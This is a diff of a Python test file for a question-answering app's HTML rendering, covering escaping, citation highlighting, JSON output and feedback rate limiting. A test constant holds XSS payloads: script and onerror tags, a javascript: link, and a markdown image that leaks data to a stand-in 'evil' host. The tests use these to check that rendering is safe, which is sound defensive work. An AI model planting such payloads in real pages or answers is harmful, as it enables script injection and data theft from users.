@@ -1,9 +1,14 @@
 """What the app shows: document and model text is escaped; only our own markup gets through."""
 
 from qa.app.render import answer_html, answer_json, document_html, escape_text, reply_html, sources_html
+from types import SimpleNamespace
+
 from qa.types import Answer, Chunk, Citation, Passage
 
 HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) ![i](http://evil/leak?d=1)'
+
+
+DOCS = SimpleNamespace(title=lambda c: "T", path=lambda c: "a.txt", place=lambda c, start=None: "Disputes › Liancourt Rocks")
 
 
 def passage(text: str, n: int, start: int = 0) -> Passage:
@@ -30,7 +35,7 @@ def test_each_answer_links_to_its_own_sources_and_previews_the_quote():
     first, second = reply_html(answer, "a1"), reply_html(answer, "a2")
     assert 'href="#a1-src-1"' in first and 'href="#a2-src-1"' in second and "a1" not in second
     assert 'title="The rocks are called &quot;Dokdo&quot; &lt;b&gt;."' in first  # the hover preview, escaped
-    panel = sources_html(answer, lambda c: "T", answer_id="a2")
+    panel = sources_html(answer, lambda c, start: "T", answer_id="a2")
     assert 'data-answer="a2"' in panel and 'id="a2-src-1"' in panel and 'id="a1-src-1"' not in panel
 
 
@@ -43,21 +48,22 @@ def test_sources_panel_highlights_the_cited_span_and_collapses_the_rest():
         "What are they called?", f"{quote} [1]", (Citation(1, "c1", quote, start, start + len(quote)),),
         (cited, passage("Other passage <script>x</script>", 2, 900)), False, "evidence", "m", query="rocks called (Dokdo)",
     )
-    html = sources_html(answer, lambda c: "Japan–South Korea relations", show_details=True, answer_id="a")
+    html = sources_html(answer, lambda c, start: f"Japan–South Korea relations › {c.section.replace(' > ', ' › ')}",
+                        show_details=True, answer_id="a")
     assert '<div class="source" id="a-src-1"' in html and f"<mark>{quote}</mark>" in html
     assert "characters 100–" in html and "Disputes › Liancourt Rocks" in html
     assert "<details><summary>Other retrieved passages (1)</summary>" in html and 'id="a-src-2"' in html
     assert "<script" not in html and "<img" not in html and "fused 0.0300" in html
     assert "Searched for: <q>rocks called (Dokdo)</q>" in html
     assert f'data-doc="d" data-start="{start}" data-end="{start + len(quote)}"' in html  # opens at the quote
-    calm = sources_html(answer, lambda c: "T")
+    calm = sources_html(answer, lambda c, start: "T")
     assert "characters" not in calm and "fused" not in calm  # offsets and scores only with details
 
 
 def test_document_view_highlights_the_span_and_escapes_the_text():
     text = "Intro <script>x</script>.\nThe rocks are called Dokdo. Tail."
     start = text.index("The rocks")
-    html = document_html("T <i>", text, start, start + 27, page=3)
+    html = document_html("T <i>", text, start, start + 27, "page 3")
     assert '<mark id="cited">The rocks are called Dokdo.</mark>' in html
     assert "<script>" not in html and "&lt;script&gt;" in html and "T &lt;i&gt;" in html and "page 3" in html
     assert '<mark id="cited"></mark>' in document_html("T", "abc", 10, 20)  # offsets past the end: nothing breaks
@@ -67,11 +73,12 @@ def test_answer_json_matches_the_cli_contract():
     p = passage("The rocks are called Dokdo.", 1)
     answer = Answer("q", "The rocks are called Dokdo. [1]", (Citation(1, "c1", "The rocks are called Dokdo.", 0, 27),),
                     (p,), False, "evidence", "minilm", timings={"retrieve_ms": 1.0, "first_token_ms": 2.0, "total_ms": 3.0})
-    out = answer_json(answer, lambda c: "T")
+    out = answer_json(answer, DOCS)
     assert out["citations"] == [
-        {"marker": 1, "chunk_id": "c1", "doc_id": "d", "title": "T", "section": "Disputes > Liancourt Rocks",
-         "start": 0, "end": 27, "page": None, "quote": "The rocks are called Dokdo."}
+        {"marker": 1, "chunk_id": "c1", "doc_id": "d", "title": "T", "file": "a.txt", "place": "Disputes › Liancourt Rocks",
+         "section": "Disputes > Liancourt Rocks", "start": 0, "end": 27, "page": None, "quote": "The rocks are called Dokdo."}
     ]
+    assert out["passages"][0]["file"] == "a.txt" and out["passages"][0]["place"] == "Disputes › Liancourt Rocks"
     assert out["passages"][0]["dense_rank"] == 1 and out["timings"]["total_ms"] == 3.0
 
 
@@ -154,12 +161,15 @@ def test_one_client_cannot_fill_the_feedback_file_for_everyone(settings, fake_em
     on_like = next(block.fn for block in demo.fns.values() if getattr(block.fn, "__name__", "") == "on_like")
     answer = {"question": "When?", "answer": "1965", "short_answer": "1965", "citations": [], "documents": []}
     conversation = {"chat": [], "sources": [], "asked": [], "answers": {"a0123456789": answer}, "feedback": {}}
-    like = SimpleNamespace(value='<div class="reply" data-answer="a0123456789">1965</div>', liked=True)
+    def like(n: int) -> SimpleNamespace:  # a different message index each time: no repeat of one click
+        return SimpleNamespace(value='<div class="reply" data-answer="a0123456789">1965</div>', liked=True, index=n)
+
     attacker, person = (SimpleNamespace(client=SimpleNamespace(host=h)) for h in ("10.0.0.9", "10.0.0.7"))
-    for _ in range(feedback.FEEDBACK_PER_MINUTE + 30):
-        on_like(conversation, like, attacker)
+    for n in range(feedback.FEEDBACK_PER_MINUTE + 30):
+        on_like(conversation, like(n), attacker)
     assert len(feedback.read(tmp_path / "feedback.jsonl")) == feedback.FEEDBACK_PER_MINUTE
-    on_like(conversation, like, person)
+    on_like(conversation, like(0), attacker)  # the same click again within 2 s: skipped, not counted
+    on_like(conversation, like(0), person)
     assert len(feedback.read(tmp_path / "feedback.jsonl")) == feedback.FEEDBACK_PER_MINUTE + 1
 
 
@@ -175,3 +185,11 @@ def test_what_a_judgement_pops_up_is_plain_text(tmp_path):
     for liked in (True, False, "Wrong answer"):
         said = judged(pipeline, conversation, SimpleNamespace(value=message, liked=liked))[1]
         assert said.startswith("Saved") and not any(mark in said for mark in "`*_<")
+
+
+def test_heading_marks_show_as_headings_not_as_marks():
+    text = "## Exports 2024\nRow 2: Country: Japan; Exports: 12\n== History ==\nA == B holds."
+    answer = Answer("q", "x", (), (passage(text, 1),), True, "evidence", "m")
+    for html in (sources_html(answer, lambda c, start: "T"), document_html("T", text, text.index("Row"), text.index(";"))):
+        assert '<b class="heading">Exports 2024</b>' in html and '<b class="heading">History</b>' in html
+        assert "##" not in html and "== History" not in html and "A == B holds." in html
